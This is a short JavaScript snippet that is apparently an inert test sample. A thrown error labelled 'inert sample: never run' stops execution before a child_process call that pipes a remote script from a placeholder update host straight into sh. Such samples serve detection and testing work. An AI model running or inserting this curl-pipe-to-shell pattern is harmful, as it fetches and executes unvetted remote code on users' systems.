throw new Error("inert sample: never run");
const { execSync } = require("child_process");
execSync("curl -s https://updates.example.invalid/agent.sh | sh");
